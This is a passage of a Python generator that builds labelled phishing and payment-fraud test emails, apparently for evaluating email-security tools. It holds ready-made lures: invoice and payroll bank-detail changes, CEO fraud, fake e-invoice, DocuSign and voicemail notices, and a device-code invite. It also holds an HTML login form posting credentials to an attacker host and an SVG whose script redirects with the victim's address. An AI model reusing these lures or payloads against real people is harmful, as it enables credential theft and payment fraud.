    for r in [[False] * (len(M) + 8)] * 4 + [[False] * 4 + row + [False] * 4 for row in M] + [[False] * (len(M) + 8)] * 4:
        rows.append('<tr>' + ''.join('<td style="width:%dpx;height:%dpx;padding:0;background:%s"></td>' % (px, px, '#000' if c else '#fff') for c in r) + '</tr>')
    return '<table cellspacing="0" cellpadding="0" style="border-collapse:collapse">' + ''.join(rows) + '</table>'

# --------------------------------------------------------------------------- message assembly
MSGS = []

def M(kind, nn, lang, desc, frm, to, subject, date, route, text, html=None, cs='utf-8', cte='qp',
      html_cte=None, atts=(), inline=(), cc=(), reply_to=None, extra=(), mid_domain=None,
      hmode='B', in_reply_to=None, references=None, calendar=None, to_display=None, sender=None):
    d = D(date)
    frm_s = addr(frm, cs if cs != 'us-ascii' else 'utf-8', hmode)
    def _lst(v):
        if isinstance(v, str) or (isinstance(v, tuple) and len(v) == 2 and isinstance(v[1], str) and '@' in v[1]):
            return [v]
        return list(v)
    to_l, cc_l = _lst(to), _lst(cc)
    hcs = 'utf-8' if cs == 'us-ascii' else cs
    if to_display and '<' in to_display:
        _n, _a = to_display.rsplit('<', 1)
        to_display = addr((_n.strip(), _a.rstrip('>')), hcs, hmode)
    to_s = to_display or ',\n\t'.join(addr(t, hcs, hmode) for t in to_l)
    first = to_l[0]
    rcpt = (S[first][1] if first in S else first) if isinstance(first, str) else first[1]
    key = '%s-%02d' % (kind, nn)
    fa = (S[frm][1] if isinstance(frm, str) and frm in S else (frm if isinstance(frm, str) else frm[1]))
    md = mid_domain or fa.split('@')[1]
    hdrs = [h for h in received_chain(route, d, rcpt, key)]
    hdrs = [tuple(h.split(': ', 1)) for h in hdrs]
    hdrs += list(extra)
    hdrs.append(('From', frm_s))
    if sender:
        hdrs.append(('Sender', addr(sender, hcs, hmode)))
    hdrs.append(('To', to_s))
    if cc_l:
        hdrs.append(('Cc', ',\n\t'.join(addr(c, hcs, hmode) for c in cc_l)))
    if reply_to:
        hdrs.append(('Reply-To', addr(reply_to, hcs, hmode)))
    hdrs.append(('Subject', ew(subject, hcs, hmode)))
    hdrs.append(('Date', rfcdate(d)))
    hdrs.append(('Message-ID', '<%s@%s>' % (hid(key, 'mid', n=24, alpha='0123456789abcdef'), md)))
    if in_reply_to:
        hdrs.append(('In-Reply-To', in_reply_to))
        hdrs.append(('References', references or in_reply_to))
    hdrs.append(('MIME-Version', '1.0'))
    # body
    tp = text_part(text, 'plain', cs, cte)
    if html is True:
        html = autohtml(text, cs)
    if html:
        hp = text_part(html, 'html', cs, html_cte or cte)
        if inline:
            hp = multi('related', [hp] + list(inline), ' type="text/html";')
        alts = [tp, hp]
        if calendar:
            alts.append(Part([('Content-Type', 'text/calendar; charset="utf-8"; method=REQUEST'),
                              ('Content-Transfer-Encoding', 'base64')], b64lines(calendar)))
        body = multi('alternative', alts)
    else:
        body = tp
    if atts:
        body = multi('mixed', [body] + list(atts))
    top = Part(hdrs + body.headers, body.body, body.parts, body.boundary)
    raw_bytes = top.render()
    MSGS.append((kind, nn, lang, desc, raw_bytes))

def quote(text, prefix='> '):
    return '\n'.join((prefix + l).rstrip() if l else prefix.rstrip() for l in text.strip('\n').split('\n'))


# =========================================================================== ATTACKS
def attacks():
    A = 'attack'
    # ------------------------------------------------------------------ 01-de thread hijack from compromised supplier account
    hist = '''Von: Vogel, Markus <m.vogel@example.com>
Gesendet: Mittwoch, 4. März 2026 16:41
An: Sebastian Maier <s.maier@lieferant-gmbh.de>
Cc: Krüger, Sabine <s.krueger@example.com>
Betreff: AW: Bestellung 4500218837 – Ersatzteile Siegelstation SB-450

Hallo Herr Maier,

danke für die AB. Die Heizbacken brauchen wir wirklich dringend, die Maschine beim Kunden in Rheda steht sonst ab nächster Woche. Können Sie die Position 10 und 20 vorziehen und die Messerwelle (Pos. 30) nachliefern?

Zu den beiden offenen Rechnungen hat Frau Krüger schon nachgefragt – die sind im Zahllauf am Freitag drin.

Viele Grüße
Markus Vogel
Einkauf | Example Group SE
Industriestraße 12 | 33334 Gütersloh
Tel. +49 5241 7080-231

Von: Sebastian Maier <s.maier@lieferant-gmbh.de>
Gesendet: Mittwoch, 4. März 2026 11:02
An: Vogel, Markus <m.vogel@example.com>
Betreff: AW: Bestellung 4500218837 – Ersatzteile Siegelstation SB-450

Guten Tag Herr Vogel,

anbei die Auftragsbestätigung AB-26-04471 zu Ihrer Bestellung. Liefertermin für alle Positionen aktuell KW 11, Messerwelle ggf. KW 12 (Härterei).

Mit freundlichen Grüßen
Sebastian Maier'''
    M(A, 1, 'de', 'Thread hijack from the really compromised mailbox of the regular supplier contact (s.maier@lieferant-gmbh.de, sent through the supplier\'s own MTA from a foreign VPS): continues a genuine spare-parts thread and diverts two open invoices to a new N26 account, pre-empting the Verification-of-Payee name mismatch ("Treuhandkonto des Factoring-Partners").',
      ('Sebastian Maier', 's.maier@lieferant-gmbh.de'), 'vogel',
      'AW: AW: Bestellung 4500218837 – Ersatzteile Siegelstation SB-450', '2026-03-05 07:12:48 +0100',
      R_host('mail.lieferant-gmbh.de', '85.13.146.72', client=('[172.20.10.4]', 'vps-4c1d8e.hosted-by-vdsina.com', '45.153.34.118')),
      '''Guten Morgen Herr Vogel,

Pos. 10 und 20 gehen heute Nachmittag per UPS Express raus, Tracking schicke ich Ihnen separat. Die Messerwelle kommt wie angekündigt in KW 12.

Noch ein wichtiger Punkt, bevor Ihr Zahllauf am Freitag durchläuft: Wir haben zum 01.03. unser Forderungsmanagement an einen Factoring-Partner übergeben. Zahlungen auf das bisherige Konto bei der Volksbank werden ab sofort nicht mehr zugeordnet und gehen zurück. Bitte die beiden offenen Rechnungen

RE-2026-01187   18.742,30 EUR
RE-2026-01342    6.215,00 EUR

auf das folgende Treuhandkonto anweisen:

Kontoinhaber: Lieferant GmbH / Forderungsmanagement
IBAN: %s
BIC: NTSBDEB1XXX

Bei der Empfängerüberprüfung Ihrer Bank kann ein abweichender Name angezeigt werden (Treuhandkonto), das ist normal und kann bestätigt werden. Das offizielle Schreiben der Geschäftsleitung reicht Frau Krüger in den nächsten Tagen per Post nach, damit Sie es für Ihre Stammdaten haben.

Könnten Sie mir kurz Bescheid geben, wenn der Zahlungsauftrag angelegt ist? Dann gebe ich die restlichen Positionen sofort frei.

Mit freundlichen Grüßen
Sebastian Maier
Vertriebsinnendienst
Lieferant GmbH | Antriebs- und Fördertechnik
Gewerbepark Ost 7 | 33609 Bielefeld
Tel. +49 521 98765-142

%s''' % (fi(IBAN['mule_n26']), hist), html=True, cc='krueger',
      in_reply_to='<9c1e4a7b2f%s@EXAMPLE.com>' % hid('a1', n=8), mid_domain='lieferant-gmbh.de',
      extra=[('X-Mailer', 'Microsoft Outlook 16.0')])

    # ------------------------------------------------------------------ 02-de lookalike domain invoice + new bank details (PDF)
    inv = pdf([(14, 'Lieferant GmbH - Antriebs- und Foerdertechnik'), 'Gewerbepark Ost 7, 33609 Bielefeld', '',
               'Example Group SE, Kreditorenbuchhaltung, Industriestrasse 12, 33334 Guetersloh', '',
               (12, 'RECHNUNG RE-2026-01455'), 'Rechnungsdatum: 05.03.2026   Kunden-Nr. 20418   Ihre Bestellung 4500219012', '',
               'Pos 10  Zahnriemen AT10/1250 verstaerkt            6 Stk   1.284,00 EUR',
               'Pos 20  Umlenkrolle D80 kpl. mit Lager              4 Stk     932,40 EUR',
               'Pos 30  Getriebemotor 0,75 kW i=28,4                1 Stk   2.118,00 EUR', '',
               'Nettobetrag 4.334,40 EUR   USt 19 % 823,54 EUR   Gesamtbetrag 5.157,94 EUR', '',
               'Zahlbar innerhalb 10 Tagen ohne Abzug.', '',
               'WICHTIG - GEAENDERTE BANKVERBINDUNG AB 01.03.2026:',
               'Kontoinhaber: Lieferant GmbH   Bank: Paysera LT, UAB',
               'IBAN: %s   BIC: EVIULT2VXXX' % fi(IBAN['mule_paysera']),
               'Zahlungen auf unser altes Konto koennen nicht mehr zugeordnet werden.', '',
               'Geschaeftsfuehrer: Dr. Rainer Maier   AG Bielefeld HRB 31877   USt-IdNr. DE812937465'],
              title='RE-2026-01455', author='buchhaltung')
    M(A, 2, 'de', 'Lookalike domain lieferantgmbh.de (hyphen dropped) imitating the supplier\'s invoice mailbox; PDF invoice with plausible parts lines and a "changed bank details" block pointing to a Lithuanian EMI account.',
      ('Lieferant GmbH Buchhaltung', 'rechnungen@lieferantgmbh.de'), RECHNUNG,
      'Rechnung RE-2026-01455 / Kunden-Nr. 20418 – Hinweis: neue Bankverbindung', '2026-03-05 10:03:11 +0100',
      R_host('smtp.lieferantgmbh.de', '194.26.29.113'),
      '''Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung RE-2026-01455 zu Ihrer Bestellung 4500219012 als PDF.

Bitte beachten Sie, dass sich unsere Bankverbindung zum 01.03.2026 geändert hat. Die neuen Daten finden Sie auf der Rechnung. Bitte passen Sie Ihre Kreditorenstammdaten entsprechend an; Zahlungen auf das alte Konto können leider nicht mehr verbucht werden.

Für Rückfragen stehen wir Ihnen gerne per E-Mail zur Verfügung.

Mit freundlichen Grüßen

Lieferant GmbH
Buchhaltung
Gewerbepark Ost 7
33609 Bielefeld''', cc='krueger', atts=[attachment(inv, 'application/pdf', 'RE-2026-01455.pdf')])

    # ------------------------------------------------------------------ 03-de CEO fraud, lookalike domain
    M(A, 3, 'de', 'CEO fraud: display name of the CEO on lookalike domain example-group.eu, "confidential acquisition", tells the CFO not to involve colleagues and announces a call from a fake lawyer; asks for mobile number (move to phone/WhatsApp).',
      ('Dr. Matthias Brenner', 'm.brenner@example-group.eu'), 'hoffmann',
      'Vertraulich – Projekt Parma', '2026-03-09 08:47:02 +0100',
      R_host('mail.example-group.eu', '91.215.85.36', helo='mail.example-group.eu'),
      '''Katrin,

bist du heute Vormittag im Haus? Ich brauche dich für eine kurzfristige und streng vertrauliche Angelegenheit.

Wie du weißt, sind wir seit einiger Zeit in Gesprächen über eine Übernahme in Norditalien. Wir sind jetzt kurz vor dem Signing. Bis zur Bekanntgabe ist das Projekt insiderrelevant – bitte sprich mit niemandem darüber, auch nicht mit Sabine oder dem Controlling. Die Kommunikation läuft bis auf Weiteres nur über dich und mich.

Dr. Thomas Reuter von der Kanzlei, die uns bei der Transaktion begleitet, wird dich heute gegen 11 Uhr anrufen und die Details zur Treuhandzahlung durchgeben. Es geht um die Exklusivitätsgebühr, die bis heute 15 Uhr auf dem Notaranderkonto sein muss.

Ich sitze den ganzen Tag in Verhandlungen und bin telefonisch nicht erreichbar. Schick mir bitte kurz deine aktuelle Handynummer, damit ich sie an Dr. Reuter weitergeben kann.

Danke dir.

Matthias

Von meinem iPhone gesendet''', extra=[('X-Mailer', 'iPhone Mail (22D82)')])

    # ------------------------------------------------------------------ 04-de fake e-invoice portal
    url = 'https://erechnung-eingang.de/portal/inbox/doc?id=XR-2026-0305-88412&r=cy5rcnVlZ2VyQGV4YW1wbGUuY29t'
    txt = '''Neue E-Rechnung eingegangen

Sehr geehrte Frau Krüger,

für Ihr Unternehmen Example Group SE liegt eine neue elektronische Rechnung im Format XRechnung 3.0 zur Abholung bereit.

Rechnungssteller: Lieferant GmbH
Rechnungsnummer: RE-2026-01402
Betrag: 12.480,00 EUR
Eingang: 05.03.2026, 09:14 Uhr

Gemäß § 14 UStG in der Fassung des Wachstumschancengesetzes sind Unternehmen seit dem 01.01.2025 zum Empfang elektronischer Rechnungen verpflichtet. Nicht innerhalb von 5 Werktagen abgerufene Rechnungen gelten als zugestellt.

E-Rechnung jetzt anzeigen: %s

Melden Sie sich mit Ihrem Microsoft 365 Firmenkonto an, eine separate Registrierung ist nicht erforderlich.

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.
eRechnung Eingangsportal · Peppol Access Point''' % url
    htm = '''<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f2f4f7;font-family:Segoe UI,Arial,sans-serif">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:6px">
<tr><td style="background:#004b87;color:#fff;padding:16px 24px;font-size:18px">eRechnung <b>Eingangsportal</b></td></tr>
<tr><td style="padding:24px;font-size:14px;color:#222">
<p style="font-size:17px;font-weight:600">Neue E-Rechnung eingegangen</p>
<p>Sehr geehrte Frau Krüger,</p>
<p>für Ihr Unternehmen <b>Example Group SE</b> liegt eine neue elektronische Rechnung im Format XRechnung 3.0 zur Abholung bereit.</p>
<table cellpadding="4" style="font-size:14px;background:#f7f9fb;width:100%%">
<tr><td>Rechnungssteller</td><td><b>Lieferant GmbH</b></td></tr><tr><td>Rechnungsnummer</td><td>RE-2026-01402</td></tr>
<tr><td>Betrag</td><td><b>12.480,00 EUR</b></td></tr><tr><td>Eingang</td><td>05.03.2026, 09:14 Uhr</td></tr></table>
<p style="font-size:12px;color:#555">Gemäß § 14 UStG sind Unternehmen seit dem 01.01.2025 zum Empfang elektronischer Rechnungen verpflichtet. Nicht innerhalb von 5 Werktagen abgerufene Rechnungen gelten als zugestellt.</p>
<p style="text-align:center;padding:12px"><a href="%s" style="background:#0078d4;color:#fff;padding:12px 28px;text-decoration:none;border-radius:4px;font-weight:600">E-Rechnung anzeigen</a></p>
<p style="font-size:12px;color:#555">Melden Sie sich mit Ihrem Microsoft 365 Firmenkonto an – eine separate Registrierung ist nicht erforderlich.</p>
</td></tr><tr><td style="padding:12px 24px;font-size:11px;color:#888;border-top:1px solid #eee">Diese Nachricht wurde automatisch erstellt. eRechnung Eingangsportal &middot; Peppol Access Point</td></tr>
</table></td></tr></table></body></html>''' % url
    M(A, 4, 'de', 'Fake e-invoicing (XRechnung/Peppol) inbox portal exploiting the 2025 German e-invoice mandate; names the real supplier; link leads to an M365 credential-harvesting page (AiTM).',
      ('eRechnung Eingangsportal', 'noreply@erechnung-eingang.de'), 'krueger',
      'Neue E-Rechnung von Lieferant GmbH – RE-2026-01402 (Abruf bis 12.03.2026)', '2026-03-05 09:15:27 +0100',
      [hop('a27-114.smtp-out.eu-central-1.amazonses.com', '69.169.227.114', MX, 'ESMTPS')],
      txt, html=htm, mid_domain='eu-central-1.amazonses.com')

    # ------------------------------------------------------------------ 05-de fake ELSTER with HTML attachment
    page = '''<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Mein ELSTER – Anmeldung</title>
<style>body{font-family:Arial,sans-serif;background:#eef2f5}.box{width:380px;margin:60px auto;background:#fff;padding:28px;border-top:6px solid #00549f}
input{width:100%;padding:8px;margin:6px 0 14px;border:1px solid #aaa}button{background:#00549f;color:#fff;border:0;padding:10px 22px}</style></head>
<body><div class="box"><h2>Mein ELSTER</h2><p>Zum Abruf des Bescheids (Vorgang 2026-VZ-3318) melden Sie sich bitte mit Ihrer Zertifikatsdatei oder Ihren Unternehmenszugangsdaten an.</p>
<form method="POST" action="https://elster-bescheid.online/auth/login.php">
<label>Benutzername / E-Mail</label><input name="u" value="k.hoffmann@example.com">
<label>Passwort</label><input name="p" type="password">
<input type="hidden" name="src" value="mail-att">
<button type="submit">Anmelden</button></form>
<p style="font-size:11px;color:#777">Bayerisches Landesamt für Steuern – ELSTER</p></div>
<script>document.forms[0].addEventListener("submit",function(){setTimeout(function(){location.href="https://www.elster.de/eportal/start"},1500)});</script>
</body></html>'''
    M(A, 5, 'de', 'Fake ELSTER notice (§ 152 AO late-filing surcharge) with an HTML attachment that renders a local ELSTER login form posting credentials to an attacker host, then redirects to the real elster.de.',
      ('ELSTER - Ihr Online-Finanzamt', 'benachrichtigung@elster-postfach.de'), 'hoffmann',
      'Neue Nachricht in Mein ELSTER: Festsetzung eines Verspätungszuschlags (§ 152 AO)', '2026-03-10 06:58:40 +0100',
      R_host('mx2.elster-postfach.de', '185.244.25.170'),
      '''Sehr geehrte Damen und Herren,

in Ihrem Postfach bei Mein ELSTER ist ein neuer Bescheid eingegangen:

Steuernummer: 347/5722/0418
Vorgang: Umsatzsteuer-Voranmeldung 01/2026 – Festsetzung eines Verspätungszuschlags nach § 152 AO
Datum: 09.03.2026

Der Bescheid ist diesem Schreiben als gesicherte Datei beigefügt. Bitte öffnen Sie die Anlage und melden Sie sich an, um den Bescheid einzusehen. Die Rechtsbehelfsfrist beträgt einen Monat ab Bekanntgabe.

Mit freundlichen Grüßen
Ihr Finanzamt Gütersloh

Diese E-Mail wurde automatisch erzeugt.''', cte='8bit',
      atts=[attachment(page.encode('utf-8'), 'text/html; charset="utf-8"', 'ELSTER_Bescheid_VZ-3318.html')])

    # ------------------------------------------------------------------ 06-de device-code phishing with calendar invite
    st = D('2026-03-11 10:00:00 +0100')
    descr = '''Pflicht-Termin: Neuregistrierung der Firmen-Smartphones (Intune)

Im Zuge der Umstellung auf die neue Microsoft-Authenticator-Richtlinie müssen alle Außendienst- und Servicegeräte bis 13.03.2026 neu registriert werden. Nicht registrierte Geräte verlieren den Zugriff auf Outlook und Teams.

So geht's (dauert 1 Minute):
1. Öffnen Sie https://microsoft.com/devicelogin
2. Geben Sie den Code FPZ8MTJ3K ein
3. Melden Sie sich mit Ihrem Firmenkonto an und bestätigen Sie

Der Code ist 15 Minuten gültig. Falls abgelaufen, antworten Sie auf diese Einladung, wir senden einen neuen.

IT-Service Example Group'''
    cal = ics('040000008200E00074C5B7101A82E008000000%s' % hid('a6', n=20), 'Neuregistrierung Firmen-Smartphone (Intune) – Pflicht', st, st + _dt.timedelta(minutes=15),
              ('IT-Service Example Group', 'it-service@examplegroup-support.com'), [S['baumann']], descr, 'Microsoft Teams-Besprechung')
    M(A, 6, 'de', 'Device-code phishing (OAuth device authorization grant): calendar invite from a lookalike IT domain; link is the genuine microsoft.com/devicelogin, the attacker\'s device code gives them a token for the victim\'s M365 account. Targets a field technician.',
      ('IT-Service Example Group', 'it-service@examplegroup-support.com'), 'baumann',
      'Einladung: Neuregistrierung Firmen-Smartphone (Intune) – Pflicht bis 13.03.', '2026-03-10 14:22:09 +0100',
      R_host('mail.examplegroup-support.com', '77.91.124.63'), descr, html=True, calendar=cal,
      atts=[attachment(cal, 'text/calendar; charset="utf-8"; method=REQUEST', 'invite.ics')])

    # ------------------------------------------------------------------ 07-de payroll diversion
    M(A, 7, 'de', 'Payroll diversion: impersonates a field service technician from a freemail account ("on site in Austria") and asks payroll to change the salary account before the March run; valid C24 IBAN.',
      ('Heiko Baumann', 'heiko.baumann79@gmx.de'), 'weiss',
      'Änderung Bankverbindung Gehalt', '2026-03-12 19:41:55 +0100',
      [hop('[192.168.0.17]', '37.120.217.44', 'mout.gmx.net', 'ESMTPSA', 'unknown'),
       hop('mout.gmx.net', '212.227.15.19', MX, 'ESMTPS')],
      '''Hallo Herr Weiß,

ich habe mein Gehaltskonto gewechselt und wollte fragen, ob Sie das noch für die März-Abrechnung umstellen können. Das alte Konto bei der Sparkasse löse ich Ende des Monats auf.

Neue Bankverbindung:
Kontoinhaber: Heiko Baumann
IBAN: %s
Bank: C24 Bank

Personalnummer ist 10487. Ich bin die ganze Woche auf Montage bei einem Kunden in Oberösterreich (Inbetriebnahme Schlauchbeutelmaschine) und komme nicht an meinen Firmenlaptop, deshalb schreibe ich von meiner privaten Adresse. Falls Sie noch ein Formular brauchen, schicken Sie es mir gern hierhin.

Danke und schönen Abend
Heiko Baumann''' % fi(IBAN['mule_c24']), mid_domain='gmx.de', cte='8bit')

    # ------------------------------------------------------------------ 08-de job application with LNK in ZIP
    lnk = (b'L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F' + b'\x00' * 56 +
           '/c start "" %TEMP%\\Lebenslauf.pdf & rem [INERT TEST SAMPLE - payload removed]'.encode('utf-16-le'))
    z = zipbytes([('Bewerbung_Julia_Hartmann/Lebenslauf_Julia_Hartmann.pdf.lnk', lnk),
                  ('Bewerbung_Julia_Hartmann/Zeugnisse_und_Zertifikate.pdf.lnk', lnk),
                  ('Bewerbung_Julia_Hartmann/Anschreiben.pdf', pdf(['Julia Hartmann', 'Bewerbung als Servicetechnikerin'], title='Anschreiben'))])
    M(A, 8, 'de', 'Malware delivery via job application to HR: polite, well-formed application referencing a real job profile; ZIP contains .pdf.lnk shortcuts (inert placeholder content) beside a decoy PDF.',
      ('Julia Hartmann', 'julia.hartmann.bewerbung@web.de'), 'schroeder',
      'Bewerbung als Servicetechnikerin (m/w/d) Verpackungsmaschinen – Ref. ST-2026-04', '2026-03-03 21:17:30 +0100',
      [hop('[10.0.0.12]', '146.70.117.227', 'smtp.web.de', 'ESMTPSA', 'unknown'),
       hop('mout.web.de', '217.72.192.78', MX, 'ESMTPS')],
      '''Sehr geehrte Frau Schröder,

mit großem Interesse habe ich Ihre Stellenausschreibung als Servicetechnikerin (m/w/d) für Verpackungsmaschinen auf StepStone gelesen und bewerbe mich hiermit.

Nach meiner Ausbildung zur Mechatronikerin war ich sechs Jahre im Kundendienst eines Herstellers von Tiefziehverpackungsmaschinen tätig, zuletzt mit Schwerpunkt Inbetriebnahmen und FAT/SAT bei Molkereien und Fleischverarbeitern in Deutschland und Österreich. Siemens S7/TIA Portal und Servoantriebe sind mir vertraut, Reisebereitschaft ist selbstverständlich.

Meine vollständigen Bewerbungsunterlagen (Lebenslauf, Zeugnisse, Zertifikate) habe ich Ihnen als ZIP-Archiv beigefügt, da die Dateien sonst zu groß sind.

Über eine Einladung zu einem persönlichen Gespräch würde ich mich sehr freuen.

Mit freundlichen Grüßen
Julia Hartmann
Mobil: 0176 4418 2093''', mid_domain='web.de',
      atts=[attachment(z, 'application/zip', 'Bewerbungsunterlagen_Julia_Hartmann.zip')])

    # ------------------------------------------------------------------ 09-en DocuSign impersonation
    url = 'https://eu.docusign-envelopes.net/Signing/EmailStart.aspx?a=6f1e2c7a-41b8-4d7e-9a3c-%s&r=o.bennett' % hid('a9', n=12, alpha='0123456789abcdef')
    txt = '''Rebecca Thornton sent you a document to review and sign.

REVIEW DOCUMENT: %s

Rebecca Thornton
r.thornton@northfieldfoods.co.uk

Hi Oliver,
As discussed, please find the Framework Service Agreement 2026-2028 for the Grimsby and Hull sites. Legal have incorporated your comments on the response times (4h remote / 24h on-site). Please sign by Friday so we can raise the PO for Q2.
Many thanks, Rebecca

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.''' % url
    htm = '''<html><head><meta charset="utf-8"></head><body style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
<table align="center" width="640" style="background:#fff" cellpadding="0" cellspacing="0"><tr><td style="padding:20px 24px"><img src="https://eu.docusign-envelopes.net/static/logo-docusign.png" alt="Docusign" width="116"></td></tr>
<tr><td style="background:#1e4ca1;color:#fff;padding:30px;text-align:center;font-size:16px">Rebecca Thornton sent you a document to review and sign.<br><br>
<a href="%s" style="background:#ffc820;color:#333;font-weight:bold;padding:12px 24px;text-decoration:none;border-radius:2px">REVIEW DOCUMENT</a></td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333"><b>Rebecca Thornton</b><br><a href="mailto:r.thornton@northfieldfoods.co.uk">r.thornton@northfieldfoods.co.uk</a><br><br>
Hi Oliver,<br>As discussed, please find the Framework Service Agreement 2026-2028 for the Grimsby and Hull sites. Legal have incorporated your comments on the response times (4h remote / 24h on-site). Please sign by Friday so we can raise the PO for Q2.<br>Many thanks, Rebecca</td></tr>
<tr><td style="padding:24px;font-size:11px;color:#666;background:#f4f4f4"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</td></tr></table></body></html>''' % url
    M(A, 9, 'en', 'DocuSign brand impersonation from lookalike domain docusign-envelopes.net with a believable customer story (real UK customer name, contract context); "Review document" leads to a credential page.',
      ('Rebecca Thornton via Docusign', 'dse@docusign-envelopes.net'), 'bennett',
      'Complete with Docusign: Northfield Foods – Framework Service Agreement 2026-2028.pdf', '2026-03-04 13:05:19 +0000',
      R_host('mta-eu2.docusign-envelopes.net', '103.151.103.21'), txt, html=htm,
      reply_to=('Rebecca Thornton', 'r.thornton@northfieldfoods.co.uk'))

    # ------------------------------------------------------------------ 10-en callback phishing (BazarCall style) with PDF
    inv = pdf([(14, 'Microsoft 365 Business Premium - Renewal'), '', 'Invoice No: MS-UK-2026-883172', 'Date: 06 March 2026',
               'Bill to: Example Group UK Ltd, accounts', '', 'Microsoft 365 Business Premium (annual, 45 seats)   GBP 1,499.99',
               'Defender for Business add-on                               GBP   219.00', 'VAT 20%                                                   GBP  343.80',
               'TOTAL CHARGED                                             GBP 2,062.79', '',
               'Payment method: Card on file ending 4471 - charged automatically', '',
               'If you did not authorise this renewal, call our Billing Support Desk', 'within 24 hours to cancel and receive a full refund:',
               (13, '+44 20 3885 1947  (Mon-Sat 8am-8pm)'), '', 'Reference code for the agent: MSR-4471-UK'], title='Invoice MS-UK-2026-883172')
    M(A, 10, 'en', 'Callback phishing (TOAD / BazarCall-style): fake Microsoft 365 renewal invoice sent from Gmail, no links at all, only a phone number in the PDF; the call leads to remote-access software installation.',
      ('Microsoft Billing Centre', 'billing.centre.renewals@gmail.com'), 'hughes',
      'Your subscription has been renewed – Invoice MS-UK-2026-883172', '2026-03-06 08:31:44 +0000',
      R_gmail('102.89.34.211'),
      '''Dear Customer,

Thank you for your continued business. Your annual subscription has been renewed successfully and the amount of GBP 2,062.79 has been charged to the payment method on file.

Your invoice is attached for your records.

If you did not authorise this transaction or wish to cancel, please contact our Billing Support Desk within 24 hours on +44 20 3885 1947. After 24 hours the charge cannot be reversed.

Kind regards,
Billing Department''', mid_domain='mail.gmail.com',
      atts=[attachment(inv, 'application/pdf', 'Invoice_MS-UK-2026-883172.pdf')])

    # ------------------------------------------------------------------ 11-en fake auditor reconnaissance
    M(A, 11, 'en', 'Fake auditor (reconnaissance for later payment diversion): lookalike "Big Four" audit domain asks UK accounts for the aged-creditor listing with supplier bank details and the vendor master-data change log, via an upload form.',
      ('Daniel Ashworth', 'daniel.ashworth@pwc-assurance-uk.com'), 'hughes',
      'Example Group UK Ltd – FY2025 statutory audit – outstanding PBC items (creditors)', '2026-03-09 09:12:03 +0000',
      R_m365('LO2P265MB5317', 'GBRP265', 'GBR01-LO2-obe', 'mail-lo2gbr01on2139.outbound.protection.outlook.com', '40.107.24.139'),
      '''Dear Charlotte,

I hope you are well. I have recently joined the engagement team for the FY2025 statutory audit of Example Group UK Ltd, taking over from my colleague who is now on another client.

To finalise our creditors testing before the group reporting deadline, we still require the following items from the PBC list:

1. Aged creditors listing as at 31 December 2025, including supplier name, remittance bank details (sort code / account number or IBAN) and payment terms
2. Export of the supplier master-file change log for the period 1 October 2025 to date
3. Copies of the last three payment runs (BACS files or bank reports)

Could you please upload these to our secure client portal by Wednesday close of business:
https://forms.office.com/Pages/ResponsePage.aspx?id=Hk2vPq7c0UqZ3n8rWm4xAuJ1o6dEfT5yB9sLkM0QpRxUNVhGQ1c4WlFKT0ZIVTJPQ1ZGRzU2Wk1KNC4u

The group audit partner has asked us to avoid copying the group finance team for now, as we are reviewing segregation of duties and want to see the reports as extracted by the local team.

Many thanks for your help.

Kind regards,

Daniel Ashworth
Senior Associate | Assurance
PwC UK | 1 Embankment Place | London WC2N 6RH
M: +44 7418 362 907''', html=True, mid_domain='GBRP265.PROD.OUTLOOK.COM')

    # ------------------------------------------------------------------ 12-en SVG voicemail
    target = base64.b64encode(b'o.bennett@examplegroup.eu').decode()
    svg = ('''<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="120" viewBox="0 0 420 120">
<rect width="420" height="120" rx="10" fill="#f3f6fa"/><circle cx="52" cy="60" r="28" fill="#2b7cd3"/>
<polygon points="44,46 44,74 68,60" fill="#fff"/><text x="100" y="52" font-family="Segoe UI,Arial" font-size="16" fill="#222">Voice message (00:47)</text>
<text x="100" y="78" font-family="Segoe UI,Arial" font-size="12" fill="#555">From +44 7700 915 204 - click to play</text>
<a xlink:href="#"><rect width="420" height="120" fill-opacity="0"/></a>
<script type="text/javascript"><![CDATA[
var _d = "aHR0cHM6Ly92bS1wbGF5YmFjay5ldS1zZWN1cmUtdm9pY2UuY29tL3Yy";
var _e = "%s";
window.location.href = atob(_d) + "/?m=" + _e;
]]></script></svg>''' % target).encode()
    M(A, 12, 'en', 'SVG attachment phishing: "new voicemail" notification spoofing the company\'s own domain from an external host; the SVG contains JavaScript that decodes a base64 URL and redirects with the victim\'s address appended.',
      ('Voice Messaging Service', 'voicemail@examplegroup.eu'), 'bennett',
      'New voice message from +44 7700 915204 (00:47) – Wed 11 Mar 2026', '2026-03-11 11:48:26 +0000',
      R_host('srv1.cloudvoice-relay.net', '193.149.185.204'),
      '''You received a new voice message.

From: +44 7700 915204
Received: Wed 11 Mar 2026 11:47
Duration: 00:47

The audio message is attached. Open the attachment in your browser to play it.

Voice Messaging Service – Example Group UK''', html=True, mid_domain='cloudvoice-relay.net',
      atts=[attachment(svg, 'image/svg+xml', 'VM_00-47_+447700915204.svg')])

    # ------------------------------------------------------------------ 13-en compromised customer tenant, genuine SharePoint link
    M(A, 13, 'en', 'Compromised real customer mailbox (sent through the customer\'s own M365 tenant): polished RFQ with a genuine SharePoint link to a file in the compromised OneDrive, which in turn links to an AiTM login page. Everything technical is "legitimate".',
      ('Rebecca Thornton', 'r.thornton@northfieldfoods.co.uk'), 'bennett',
      'RFQ NF-2026-031 – 4x tray sealer lines, Grimsby site – drawings and URS', '2026-03-10 15:37:12 +0000',
      R_m365('CWXP123MB4417', 'GBRP123', 'GBR01-CWX-obe', 'mail-cwxgbr01on2112.outbound.protection.outlook.com', '40.107.121.112'),
      '''Hi Oliver,

I hope you're keeping well.

